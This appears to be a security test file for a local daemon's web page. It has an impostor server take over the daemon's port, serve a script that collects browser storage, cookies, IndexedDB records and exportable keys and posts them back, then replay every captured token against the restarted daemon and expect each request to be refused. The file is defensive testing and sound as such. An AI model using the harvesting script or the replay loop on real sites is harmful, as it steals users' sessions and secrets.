/** Somebody else who takes the port of a daemon that was stopped, and everything that pages then hand to him. */
import { expect, test } from "bun:test";
import { ask, type Asked } from "../daemon/page/page-visit.ts";
import { until } from "../until.ts";
import { inBrowser } from "./in-browser.ts";
import { originOf } from "./signed-in-page.ts";
import { english } from "./english.ts";

const STRANGER = english.connection.stranger;
const OUTSIDE = english.signedOut.title;
const PATHS = ["/page", "/sessions", "/events", "/settings", "/openapi.json"];

type Collected = Asked & { readonly method: string; readonly body: string };

type Impostor = Disposable & { readonly collected: Collected[] };

/** A script of his, for whoever loads the page anew meanwhile: it hands over everything it can read. */
const DUMP = `
  const handed = [JSON.stringify([localStorage, sessionStorage, document.cookie])];
  (async () => {
    for (const { name } of await indexedDB.databases()) {
      const opening = indexedDB.open(name);
      await new Promise((resolve) => (opening.onsuccess = resolve));
      for (const store of opening.result.objectStoreNames) {
        const asked = opening.result.transaction(store).objectStore(store).getAll();
        await new Promise((resolve) => (asked.onsuccess = resolve));
        for (const one of asked.result) {
          const raw = await crypto.subtle.exportKey("raw", one.key).catch(() => new ArrayBuffer());
          handed.push(JSON.stringify([one, new TextDecoder().decode(raw)]));
        }
      }
    }
    await fetch("/dump", { method: "POST", body: handed.join("\\n") });
    document.title = "dumped";
  })();`;

/** Notes everything that is sent to it; what it answers to the API is its own choice. */
function takePort(port: number, answer: (request: Request) => Response): Impostor {
  const collected: Collected[] = [];
  const server = Bun.serve({
    hostname: "127.0.0.1",
    port,
    fetch: async (request) => {
      const { pathname, search } = new URL(request.url);
      const headers = Object.fromEntries(request.headers);
      const body = await request.text();
      collected.push({ method: request.method, target: pathname + search, headers, body });
      if (pathname.startsWith("/api/")) return answer(request);
      if (pathname === "/dump.js") return script(DUMP);
      return html("<!doctype html><link rel=icon href=data:,><script src=/dump.js></script>");
    },
  });
  return { collected, [Symbol.dispose]: () => void server.stop(true) };
}

const html = (text: string): Response =>
  new Response(text, { headers: { "content-type": "text/html" } });
const script = (text: string): Response =>
  new Response(text, { headers: { "content-type": "text/javascript" } });

/** Every secret that could be in it. */
const secretsIn = (collected: readonly Collected[]): readonly string[] => [
  ...new Set(JSON.stringify(collected).match(/[\w-]{43}(?:\.[\w-]+)*/g) ?? []),
];

/** How he answers, and what the page says of that. */
const ANSWERS = {
  "answers as if it were the daemon": [() => Response.json({ run: "x", proof: "y" }), STRANGER],
  "lets nobody in": [() => new Response("{}", { status: 401 }), OUTSIDE],
} as const;

export function testImpostor(what: keyof typeof ANSWERS): void {
  const [answer, isSaid] = ANSWERS[what];
  inBrowser("another program on the daemon's port", {}, (given) => {
    test(`one that ${what} learns nothing that opens anything later, and the page goes on by itself`, () =>
      given.onPage("/", async ({ page, context, excuse }) => {
        const home = given.home();
        const { port } = home.access();
        const other = await context.newPage();
        await other.goto(`${originOf(home)}/settings`);
        for (const one of [page, other]) await one.getByText("Live", { exact: true }).waitFor();
        await page.evaluate(() => Object.assign(globalThis, { isSamePage: true }));

        await home.selfGen("daemon", "stop");
        const impostor = takePort(port, answer);
        await page.getByText(isSaid).first().waitFor();
        await until(() => impostor.collected.length > 2);
        const third = await context.newPage();
        await third.goto(`${originOf(home)}/`);
        await third.waitForFunction(() => document.title === "dumped");
        await third.close();
        impostor[Symbol.dispose]();

        await home.daemonHome.startDaemon();
        expect(home.access().port).toBe(port);
        for (const one of [page, other]) await one.getByText("Live", { exact: true }).waitFor();
        expect(await page.evaluate(() => (globalThis as { isSamePage?: boolean }).isSamePage)).toBe(
          true,
        );
        excuse();

        const { collected } = impostor;
        const sent = collected.filter(({ target }) => target.startsWith("/api/"));
        expect(new Set(sent.map(({ target }) => target))).toEqual(new Set(["/api/v1/page/proof"]));
        // As it came, elsewhere too, and every piece of it in every place where a secret can stand.
        const headers = [
          ...sent.map((one) => one.headers ?? {}),
          ...secretsIn(collected).flatMap((secret) => [
            { "x-self-gen-key": secret },
            { "x-self-gen-key": secret, cookie: `self-gen-${port}=${secret}` },
            { authorization: `Bearer ${secret}` },
          ]),
        ];
        const answered: string[] = [];
        for (const shown of headers) {
          for (const path of PATHS) {
            const { status, head } = await ask(
              { port },
              {
                target: `/api/v1${path}`,
                headers: { ...shown, host: null, "content-length": null, connection: "close" },
              },
            );
            if (status < 400) answered.push(`${path} ${head} ${JSON.stringify(shown)}`);
          }
        }
        expect(headers.length).toBeGreaterThan(3);
        expect(answered).toEqual([]);
      }));
  });
}
